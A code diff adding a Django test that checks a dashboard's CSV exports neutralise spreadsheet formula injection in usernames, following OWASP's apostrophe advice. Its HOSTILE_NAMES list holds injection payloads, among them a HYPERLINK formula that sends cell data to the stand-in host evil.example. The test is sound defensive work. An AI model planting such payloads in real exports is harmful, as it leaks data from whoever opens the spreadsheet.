@@ -142,3 +142,35 @@ def test_a_running_aggregation_is_polled_faster_with_its_progress(client, staff,
     client.force_login(staff)
     body = client.get(reverse("dashboard:fragment", args=["run"])).content.decode()
     assert 'hx-trigger="every 2s"' in body and 'aria-valuenow="40"' in body and "2 / 5 batches" in body
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, staff, world):
+    """Issue 12, break 10: names starting with = + - @ (tab, CR) went into the CSVs raw, and a
+    spreadsheet runs them as formulas. Every text cell that could start one gets a leading
+    apostrophe (OWASP's advice); numbers, negative ones too, stay numbers."""
+    from dashboard.views import csv_tables
+
+    hostile = dict(zip(("verifier-1", "verifier-2", "verifier-3", "crowd-1", "crowd-2", "crowd-3"), HOSTILE_NAMES))
+    for old, new in hostile.items():
+        User.objects.filter(username=old).update(username=new)
+    client.force_login(staff)
+    seen = set()
+    for name in csv_tables():
+        for row in _csv(client, name):
+            for cell in row:
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    assert _is_number(cell), f"{name}: {cell!r} written raw"
+                seen.add(cell)
+    for new in hostile.values():
+        assert "'" + new in seen, f"{new!r} is not in the verifiers or crowd table, neutralised"
